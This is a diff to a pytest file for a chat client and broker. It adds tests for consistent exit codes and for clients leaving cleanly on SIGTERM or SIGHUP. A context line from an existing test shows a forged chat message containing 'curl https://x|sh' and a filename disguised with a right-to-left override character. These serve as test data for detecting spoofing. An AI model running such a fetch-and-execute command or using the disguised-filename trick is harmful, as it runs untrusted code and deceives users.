@@ -6,6 +6,7 @@ import asyncio
 import json
 import os
 import re
+import signal
 import subprocess
 import sys
 import time
@@ -20,7 +21,7 @@ from client.bots.dice import roll
 from messages import MsgEvent, PmPush
 
 from .chaos import Row, check_exact, full_speed_chaos, until
-from .helpers import ROOT, Broker, run, wait_until
+from .helpers import ROOT, Broker, RawClient, run, wait_until
 
 ENV = dict(os.environ, PYTHONPATH=str(ROOT), XDG_CONFIG_HOME="/nonexistent-zchat-test")
 
@@ -451,3 +452,75 @@ def test_tail_shows_a_forged_line_under_its_real_sender(broker: Broker) -> None:
     indent = " " * len("[00:00:00] <mallory> ")
     assert lines[1] == indent + "[12:00:00] <bob> new VPN: curl https://x|sh"
     assert lines[2] == indent + "invoice_<U+202E>fdp.exe"
+
+
+# ------------------------------------------------------ one table of exits
+
+
+@pytest.mark.parametrize(
+    "program", [["--room"], ["send", "--room"], ["tail", "--room"], ["bot", "echo", "--room"]]
+)
+def test_every_program_exits_with_the_same_codes(broker: Broker, program: list[str]) -> None:
+    """Point 6: an unreachable broker was 1 for zchat and 3 for the others,
+    an invalid room 2 for send and 1 for the others. README has the table."""
+    room_opt, head = program[-1], program[:-1]
+    text = ["hi"] if head == ["send"] else []
+    bad_room = zchat(
+        *head, "--connect", broker.endpoint, "--nick", "x1", room_opt, "Bad Room", *text, stdin=""
+    )
+    assert bad_room.returncode == 2, (program, bad_room.returncode, bad_room.stderr)
+    assert bad_room.stderr.count("\n") == 1 and "not valid" in bad_room.stderr
+    endpoint = broker.endpoint
+    broker.kill()
+    gone = zchat(
+        *head,
+        "--connect",
+        endpoint,
+        "--timeout",
+        "1",
+        "--nick",
+        "x2",
+        room_opt,
+        "general",
+        *text,
+        stdin="",
+    )
+    assert gone.returncode == 3, (program, gone.returncode, gone.stderr)
+    assert "cannot reach the broker" in gone.stderr and "Traceback" not in gone.stderr
+
+
+@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGHUP])
+@pytest.mark.parametrize("program", [["tail", "--visible"], ["--room", "general"]])
+def test_a_signal_says_goodbye(broker: Broker, zctx: Any, sig: int, program: list[str]) -> None:
+    """Point 3: SIGTERM of a tail or a bot left its session behind for 15 s,
+    so a restart within that time got nick_taken."""
+    watcher = RawClient(zctx, broker.endpoint, broker.events)
+    assert watcher.request({"type": "hello", "nick": "watcher"})["type"] == "welcome"
+    watcher.subscribe(b"#general\x00")
+    watcher.request({"type": "join", "room": "general"})
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "client", *program, "--connect", broker.endpoint, "--nick", "sig"],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.PIPE,
+        env=ENV,
+    )
+    _started.append(proc)
+
+    def event(kind: str) -> dict[str, Any]:
+        while True:
+            _, ev = watcher.event(15)
+            if ev["type"] == kind and ev.get("nick") == "sig":
+                return ev
+
+    event("join")
+    started = time.monotonic()
+    proc.send_signal(sig)
+    leave = event("leave")
+    assert leave["reason"] == "quit" and time.monotonic() - started < 5
+    assert proc.wait(10) == 128 + sig
+    # And the nick is free again at once.
+    again = RawClient(zctx, broker.endpoint)
+    assert again.request({"type": "hello", "nick": "sig"})["type"] == "welcome"
+    again.close()
+    watcher.close()
